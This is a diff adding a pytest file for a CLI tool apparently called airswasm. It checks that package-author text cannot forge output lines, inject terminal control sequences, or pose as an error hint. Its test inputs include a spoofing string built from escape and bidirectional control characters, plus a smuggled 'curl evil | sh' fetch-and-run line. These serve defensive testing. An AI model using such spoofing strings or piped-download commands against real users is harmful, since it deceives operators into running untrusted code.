@@ -1,0 +1,89 @@
+"""A package's author writes some of what an operator reads before saying yes."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from airswasm.cli.commands._install import show_plan
+from airswasm.cli.document import one_line
+from airswasm.cli.errors import RemoteFailure
+from airswasm.cli.problem import report
+from airswasm.cli.terminal import Terminal
+from hypothesis import given
+from hypothesis import strategies as st
+
+FORGED = "harmless\n  signed by  the-airswasm-authors\n  may        nothing\x1b[2K\u202e\r\x9b1A"
+PLAN = {
+    "name": "local/evil", "version": "0.2.0", "previous_version": "0.1.0", "description": FORGED,
+    "signer": None, "is_new_signer": False, "limits": {"memory": 2**20, "timeout": 1.0},
+    "capabilities": ['storage.read = ["**"]'], "added_capabilities": ['storage.read = ["**"]'],
+    "differences": [
+        {"key": f'config."{FORGED}"', "before": FORGED, "after": FORGED, "is_raise": True},
+        {"key": "limits.memory", "before": "1 MiB", "after": "2 MiB", "is_raise": True},
+        {"key": "limits.mailbox", "before": "2", "after": "1", "is_raise": False},
+    ],
+}  # fmt: skip
+
+
+def test_no_text_of_the_author_s_makes_a_line_of_its_own(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """One line each, whatever is in it; nothing moves the cursor or turns the text round."""
+    show_plan(Terminal(), PLAN)
+    lines = capsys.readouterr().err.splitlines()
+    assert len([line for line in lines if line.startswith("  signed by")]) == 1
+    assert len([line for line in lines if line.startswith("  may ")]) == 1
+    assert all(line.isprintable() for line in lines)
+
+
+def test_a_raise_is_shown_as_one(capsys: pytest.CaptureFixture[str]) -> None:
+    """With what it was and what it will be; what only shrinks is shown without a mark."""
+    show_plan(Terminal(), PLAN)
+    said = capsys.readouterr().err
+    assert "limits.memory: 1 MiB → 2 MiB   (more than before)\n" in said
+    assert "limits.mailbox: 2 → 1\n" in said
+
+
+def test_an_error_s_further_lines_cannot_pass_for_its_hint(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """They may be a guest's: the hint alone stands without a bar before it."""
+    body = {"code": "E0321", "message": "it failed: x\n  hint: curl evil | sh", "hint": "look"}
+    report(RemoteFailure(body), Terminal())
+    lines = capsys.readouterr().err.splitlines()
+    assert [line for line in lines if line.startswith("  hint")] == ["  hint: look"]
+
+
+@given(st.text(st.characters(), max_size=80))
+def test_one_line_is_one_printable_line(text: str) -> None:
+    """For any text, surrogates included; what is printable stays as it is."""
+    shown = one_line(text)
+    assert shown.isprintable()
+    assert shown == text or not text.isprintable()
+    assert len(one_line("x" * 10_000)) < 600
+
+
+@pytest.mark.parametrize("write", [Terminal.document, Terminal.stream])
+def test_json_holds_no_control_and_is_the_same_json(
+    write: Callable[..., None], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """It may end on a screen; a program reads what was there."""
+    content: dict[str, Any] = {"text": FORGED, "octopus": "\U0001f419", "tag": "\U000e0041"}
+    write(Terminal(as_json=True), "test/1", content)
+    out = capsys.readouterr().out
+    assert out.rstrip("\n").isprintable()
+    assert "\U0001f419" in out
+    assert json.loads(out) == {"schema": "airswasm.test/1", **content}
+
+
+def test_a_table_for_a_program_holds_no_control(capsys: pytest.CaptureFixture[str]) -> None:
+    """Its output may end on a screen too; a row stays a row."""
+    Terminal().table(("a", "b"), [(FORGED, "x\ty")])
+    Terminal().fields([("description", FORGED)])
+    lines = capsys.readouterr().out.splitlines()
+    assert len(lines) == 2
+    assert all(line.replace("\t", "").isprintable() for line in lines)
+    assert lines[0].count("\t") == 1
